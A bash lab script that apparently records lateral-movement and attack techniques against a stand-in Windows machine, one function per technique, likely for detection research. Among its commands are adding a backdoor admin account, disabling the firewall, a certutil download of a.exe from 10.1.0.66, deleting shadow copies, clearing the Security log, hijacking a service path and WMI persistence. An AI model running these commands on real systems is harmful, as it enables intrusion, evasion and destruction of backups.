# What is done to the stand-in in each recording, one function each. Sourced by record-stand-in.sh.
at=${address[sales]} admin="LAB/Administrator:$password@${address[sales]}"

stand_in() {
  rm -rf "$lab/machine"; mkdir "$lab/machine"
  serve sales "$py" "$here/standin" "$lab/machine" SALES-PC "$password" "$at" & standin=$!
  for _ in $(seq 100); do on client bash -c "</dev/tcp/$at/49667" 2>/dev/null && return; sleep 0.1; done
}

shell() { local name=$1; shift; printf '%s\n' "$@" exit | tool "$name" "$admin"; }

do_commands() {
  shell smbexec whoami 'net user' 'net user helper Passw0rd!7 /add' 'net localgroup administrators helper /add' \
    'net group "domain admins" /domain' 'nltest /dclist:lab.local' 'netsh advfirewall set allprofiles state off' \
    'certutil -urlcache -split -f http://10.1.0.66/a.exe C:\Windows\Temp\a.exe' \
    'vssadmin delete shadows /all /quiet' 'wevtutil cl Security'
}

published() { on client "$py" "$here/published.py" "$1" "$at" "$password"; }
specified() { on client timeout 60 "$py" "$here/specified.py" "$1" "$at" "$password"; }

do_cobalt_strike() { published cobalt_strike; }
do_metasploit() { published metasploit; }
do_netexec() { published netexec; published netexec_task; }
do_crackmapexec() { published crackmapexec; }
do_sliver() { published sliver; }

# A service borrowed and given back, and six stopped.
do_services_borrowed() {
  local own='C:\Windows\system32\svchost.exe -k netsvcs -p'
  tool services "$admin" change -name XblAuthManager -path 'C:\Windows\System32\cmd.exe /c whoami'
  tool services "$admin" start -name XblAuthManager
  tool services "$admin" change -name XblAuthManager -path "$own"
  for name in Spooler MSSQLSERVER SQLWriter VSS BackupExecAgent W3SVC; do tool services "$admin" stop -name "$name"; done
}

# Administration: one service asked about, stopped and started again.
do_services_asked() {
  for what in status stop start; do
    on client net -s "$(conf client)" rpc service "$what" Spooler -I "$at" -U "LAB/Administrator%$password"; done
}

do_certificates() { published certificates; }
do_terminals() { published terminals; }
do_paexec() { published paexec; }
do_secondary_logon() { published secondary_logon; }
do_event_service() { specified event_service; }
do_firewall() { specified firewall; }
do_shutdown() { specified shutdown; }
do_task_operations() { specified task_operations; }
do_wmi_operations() { specified wmi_operations; }
do_object_operations() { specified object_operations; }

do_tasks() {
  tool atexec "$admin" whoami
  published task_rights
  published task_account
}

do_wmi() { shell wmiexec whoami; }
do_wmi_registry() { published wmi_registry; }
do_netexec_wmi() { published netexec_smb_wmi; published netexec_wmi; }

do_dcom() { shell dcomexec whoami; }

do_subscription() {
  echo 'CreateObject("WScript.Shell").Run "calc.exe"' > script.vbs
  tool wmipersist "$admin" install -name updates -vbs script.vbs \
    -filter 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_LocalTime"'
}
